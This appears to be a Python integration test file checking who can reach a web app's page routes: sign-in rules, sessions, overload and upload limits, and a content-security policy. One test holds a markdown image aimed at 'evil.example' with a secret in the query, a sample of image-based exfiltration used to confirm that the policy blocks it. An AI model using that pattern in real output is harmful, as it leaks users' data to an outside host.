"""Who gets through to the page: its own rule for each of its routes, and the attacks on them."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import httpx2
import pytest

from extensions.page.mount import policy
from extensions.page.routes import signed_in
from foundation.types import Principal
from serving import runtime
from serving.access.identity import Access, anyone
from serving.access.machine_key import FILE
from serving.app import create_app
from serving.cli.main import main
from tests.doubles import command_line
from tests.doubles.serving import World, world
from tests.integration.test_api_access import dependants, in_app

PUBLIC = {"GET /", "GET /sign-in", "POST /sign-in", "POST /sign-out"}
SIGNED_IN = {f"{method} /{place}/{{rest:path}}" for method in ("GET", "POST") for place in ("_nicegui", "_nicegui_ws")}


@pytest.fixture
def given(tmp_path: Path) -> World:
    return world(tmp_path, extensions=("feedback", "jobs", "page", "reports"))


@pytest.fixture
async def api(given: World) -> AsyncIterator[httpx2.AsyncClient]:
    transport = httpx2.ASGITransport(create_app(given.system))
    async with httpx2.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
        yield client


def test_every_route_of_the_page_has_its_rule_here_and_declares_one_there(given: World, tmp_path: Path) -> None:
    (tmp_path / "without").mkdir()
    core = dict(in_app(create_app(world(tmp_path / "without", extensions=("feedback", "jobs")).system)))
    found = {name: route for name, route in in_app(create_app(given.system)) if name not in core}
    assert found.keys() == PUBLIC | SIGNED_IN
    for name, route in found.items():
        rules = [
            part.call
            for part in dependants(route.dependant)
            if isinstance(part.call, Access) or part.call in (anyone, signed_in)
        ]
        assert rules == [anyone if name in PUBLIC else signed_in], name


@pytest.mark.parametrize("name", sorted(SIGNED_IN))
async def test_without_a_session_a_part_of_the_page_is_401_whatever_key_is_sent(
    given: World, api: httpx2.AsyncClient, name: str
) -> None:
    method, path = name.replace("{rest:path}", "x").split()
    reply = await api.request(method, path, headers={"Authorization": f"Bearer {given.all_roles}"})
    assert reply.status_code == 401


async def test_the_page_is_loaded_while_a_browser_shows_the_form_and_not_for_a_probe(given: World) -> None:
    app = create_app(given.system)
    client = httpx2.AsyncClient(transport=httpx2.ASGITransport(app), base_url="http://127.0.0.1")
    async with app.router.lifespan_context(app), client as api:
        await api.get("/")
        assert not app.state.page.is_prepared
        await api.get("/", headers={"Accept": "text/html,*/*"})
        assert app.state.page.is_prepared


async def test_the_page_takes_its_place_in_the_queue_and_the_form_does_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(runtime, "PLACES", dict.fromkeys(runtime.PLACES, (1, 0)))
    given = world(tmp_path, extensions=("feedback", "jobs", "page", "reports"))
    app = create_app(given.system)
    client = httpx2.AsyncClient(transport=httpx2.ASGITransport(app), base_url="http://127.0.0.1")
    async with app.router.lifespan_context(app), client as api:
        begun = await api.post("/sign-in", data={"key": given.reader})
        async with AsyncExitStack() as held:
            for places in app.state.runtime.admission.values():
                await held.enter_async_context(places.place(Principal("somebody", "elsewhere")))
            page = await api.get("/", headers={"Cookie": begun.headers["set-cookie"].partition(";")[0]})
            assert (page.status_code, page.json()["code"]) == (503, "overloaded")
            api.cookies.clear()
            assert (await api.get("/")).status_code == 200, "the form of a stranger takes no place of anybody"


async def test_an_upload_that_is_too_large_is_told_so_in_the_shape_of_our_errors(given: World) -> None:
    app, most = create_app(given.system), given.system.settings.serving.http.max_body_bytes
    client = httpx2.AsyncClient(transport=httpx2.ASGITransport(app), base_url="http://127.0.0.1")
    async with app.router.lifespan_context(app), client as api:
        begun = await api.post("/sign-in", data={"key": given.reader})
        cookie = {"Cookie": begun.headers["set-cookie"].partition(";")[0]}
        await api.get("/", headers=cookie)
        sent = await api.post("/_nicegui/client/x/upload/1", files={"file": ("x.md", b"x" * most)}, headers=cookie)
    assert (sent.status_code, sent.json()["code"]) == (413, "too_large")


async def test_c25_where_sessions_cannot_be_looked_up_the_page_is_503(given: World, api: httpx2.AsyncClient) -> None:
    given.system.serving.cache.close()
    for path in ("/_nicegui/x", "/"):
        reply = await api.get(path, headers={"Cookie": "sixply_session=any"})
        assert (reply.status_code, reply.json()["code"]) == (503, "store_unavailable"), path


async def test_off_there_is_no_page(tmp_path: Path) -> None:
    given = world(tmp_path)
    transport = httpx2.ASGITransport(create_app(given.system))
    async with httpx2.AsyncClient(transport=transport, base_url="http://127.0.0.1") as api:
        found = [
            await api.get(path, headers={"Authorization": f"Bearer {given.reader}"})
            for path in ("/", "/sign-in", "/_nicegui/x")
        ]
    assert {reply.status_code for reply in found} == {404}


def test_c6_an_answer_on_the_page_loads_and_sends_nothing_elsewhere() -> None:
    """An image in an answer would carry what the documents say to whoever owns its address. The browser is told not to."""
    told = dict(
        part.strip().partition(" ")[::2] for part in policy("<p>![x](https://evil.example/?q=secret)").split(";")
    )
    assert told["default-src"] == "'none'"
    assert {told[name] for name in ("connect-src", "form-action")} == {"'self'"}
    assert told["img-src"] == "'self' data:"
    assert not [source for sources in told.values() for source in sources.split() if source in {"*", "https:", "http:"}]


def test_the_second_command_of_the_readme_lets_its_owner_in_by_the_link_that_it_prints(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    got_in: list[Any] = []

    async def follow(system: Any, link: str) -> None:
        transport = httpx2.ASGITransport(create_app(system))
        async with httpx2.AsyncClient(transport=transport, base_url=link.partition("/sign-in")[0]) as browser:
            got_in.append((await browser.get(link)).headers["location"])
            got_in.append((await browser.get(link)).headers["location"])  # whoever is signed in may follow it again
            browser.cookies.clear()
            got_in.append((await browser.get(link)).status_code)
        key = (system.context.data_dir / FILE).read_text().strip()
        async with httpx2.AsyncClient(transport=transport, base_url=link.partition("/sign-in")[0]) as program:
            got_in.append((await program.get("/v1/documents", headers={"Authorization": f"Bearer {key}"})).status_code)

    def serve(system: Any, listening: Any) -> None:
        said = capsys.readouterr().out
        asyncio.run(follow(system, next(word for word in said.split() if "/sign-in?code=" in word)))
        listening.close()

    monkeypatch.setattr("serving.server.serve", serve)
    monkeypatch.setattr("observability.telemetry.logs.set_up", lambda _: None)
    monkeypatch.setenv("SIXPLY__SERVING__HTTP__PORT", "0")
    command_line.runner(main, tmp_path, monkeypatch, capsys, extensions=["feedback", "jobs", "page", "reports"])(
        "serve", json_too=False
    )
    assert got_in == ["/", "/", 401, 200]
    assert not list(tmp_path.rglob(FILE))
